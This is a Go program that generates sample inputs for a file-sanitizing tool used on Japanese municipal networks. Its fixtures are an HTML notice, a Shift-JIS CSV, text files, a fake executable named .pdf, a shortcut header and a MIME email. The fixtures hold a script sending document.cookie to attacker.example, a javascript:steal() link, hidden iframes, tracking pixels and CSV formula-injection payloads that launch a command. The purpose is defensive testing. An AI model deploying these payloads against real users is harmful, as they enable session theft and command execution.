// Command examples writes the sample inputs that the README's first command
// sanitizes (testdata/examples). Every byte is made here; nothing is copied
// from third-party files. Run through `go generate ./cmd/mugai`.
package main

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"flag"
	"log"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/text/encoding/japanese"
)

func main() {
	out := flag.String("out", "testdata/examples", "output directory")
	flag.Parse()
	if err := os.MkdirAll(*out, 0o755); err != nil {
		log.Fatal(err)
	}
	files := map[string][]byte{
		"お知らせ.html":    []byte(noticeHTML),
		"請求一覧.csv":     sjis(invoiceCSV),
		"案内_sjis.txt":  sjis(guideText),
		"議事録.txt":      []byte(minutesText),
		"請求書.pdf":      fakePE(),
		"更新手順.txt.lnk": shortcut(),
		"入札のご案内.eml":   mailExample(),
	}
	for name, b := range files {
		if err := os.WriteFile(filepath.Join(*out, name), b, 0o644); err != nil {
			log.Fatal(err)
		}
	}
}

func sjis(s string) []byte {
	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
	if err != nil {
		log.Fatalf("encode: %v", err)
	}
	return b
}

const noticeHTML = `<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>住民税の納付についてのお知らせ</title>
<style>body { font-family: sans-serif; }</style>
<script>document.location = "https://attacker.example/collect?c=" + document.cookie;</script>
</head>
<body onload="init()">
<div style="display:none">今すぐ確認してください 重要 至急</div>
<h1>住民税の納付についてのお知らせ</h1>
<p>令和8年度の住民税（第3期）の納期限は<strong>12月1日</strong>です。</p>
<ul>
  <li>納付書は市役所の窓口でも再発行できます。</li>
  <li>口座振替をご希望の方は <a href="https://www.example.lg.jp/tax/furikae.html">こちら</a> をご覧ください。</li>
  <li><a href="javascript:steal()">ここをクリックして確認</a></li>
</ul>
<table>
  <tr><th>期別</th><th>納期限</th></tr>
  <tr><td>第3期</td><td>12月1日</td></tr>
  <tr><td>第4期</td><td>1月31日</td></tr>
</table>
<p>問い合わせ先: 税務課 ①市民税係 電話 03-1234-5678</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<iframe src="https://attacker.example/frame"></iframe>
</body>
</html>
`

const invoiceCSV = "請求番号,取引先,金額,備考\r\n" +
	"1001,㈱サンプル商事,12000,通常\r\n" +
	"1002,東京都①区,-500,値引き\r\n" +
	"1003,\"=cmd|' /C calc'!A0\",0,\"=HYPERLINK(\"\"https://attacker.example\"\",\"\"詳細\"\")\"\r\n" +
	"1004,@SUM(1+1)*cmd|' /C calc'!A0,+1,＝1+1\r\n"

const guideText = "庁内ネットワーク利用の手引き\r\n" +
	"\r\n" +
	"①インターネット接続系で取得したファイルは、無害化してから LGWAN 接続系へ渡してください。\r\n" +
	"②無害化されたファイルは ㈱ 等の機種依存文字も正しく表示されます。\r\n" +
	"③不明な点は情報政策課（内線 1234）まで。\r\n"

const minutesText = "第12回 情報セキュリティ委員会 議事録\n\n" +
	"日時: 令和8年11月20日 14:00〜15:00\n" +
	"議題: 無害化ゲートウェイの更新について\n"

// mailExample is an Internet mail as municipalities receive it: an
// ISO-2022-JP subject, an HTML alternative with a script and a tracking
// pixel, a CSV attachment with a formula and an executable named .pdf.
func mailExample() []byte {
	jis := func(s string) string {
		b, err := japanese.ISO2022JP.NewEncoder().Bytes([]byte(s))
		if err != nil {
			log.Fatalf("encode: %v", err)
		}
		return string(b)
	}
	b64 := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	word := func(s string) string { return "=?ISO-2022-JP?B?" + b64([]byte(jis(s))) + "?=" }
	var b bytes.Buffer
	w := func(s string) { b.WriteString(strings.ReplaceAll(s, "\n", "\r\n")) }
	w("From: " + word("調達センター") + " <info@chotatsu.example.com>\n")
	w("To: keiyaku@city.example.lg.jp\n")
	w("Subject: " + word("入札のご案内（第12号）") + "\n")
	w("Date: Fri, 20 Nov 2026 10:00:00 +0900\n")
	w("Message-ID: <20261120100000.1@chotatsu.example.com>\n")
	w("MIME-Version: 1.0\n")
	w("Content-Type: multipart/mixed; boundary=\"outer\"\n\n")
	w("--outer\nContent-Type: multipart/alternative; boundary=\"alt\"\n\n")
	w("--alt\nContent-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n")
	w(jis("契約課 ご担当者様\n\n入札のご案内をお送りします。\n詳細は添付の一覧をご確認ください。\n"))
	w("--alt\nContent-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n")
	w(b64([]byte("<p>契約課 ご担当者様</p><p>入札のご案内をお送りします。</p><script>location='https://attacker.example/'</script><img src=\"https://t.example/o.gif\" width=1 height=1>")) + "\n")
	w("--alt--\n")
	w("--outer\nContent-Type: text/csv; name=\"" + word("入札一覧.csv") + "\"\nContent-Disposition: attachment; filename=\"" + word("入札一覧.csv") + "\"\nContent-Transfer-Encoding: base64\n\n")
	w(b64([]byte("番号,件名,予定価格\r\n1,庁舎清掃業務,=HYPERLINK(\"https://attacker.example\",\"詳細\")\r\n")) + "\n")
	w("--outer\nContent-Type: application/pdf; name=\"" + word("仕様書.pdf") + "\"\nContent-Disposition: attachment; filename=\"" + word("仕様書.pdf") + "\"\nContent-Transfer-Encoding: base64\n\n")
	w(b64(fakePE()) + "\n")
	w("--outer--\n")
	return b.Bytes()
}

// fakePE is the header of a Windows executable (it does nothing if run: the
// code section is absent), named .pdf to show the type check.
func fakePE() []byte {
	b := make([]byte, 512)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80) // e_lfanew
	copy(b[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(b[0x84:], 0x14c) // i386
	copy(b[0x100:], "This is mugai's test stub, not a program.")
	return b
}

// shortcut is the fixed header of a Windows shortcut (.lnk).
func shortcut() []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.LittleEndian, uint32(0x4c))
	// LinkCLSID 00021401-0000-0000-C000-000000000046
	b.Write([]byte{0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46})
	b.Write(make([]byte, 0x4c-b.Len()))
	return b.Bytes()
}
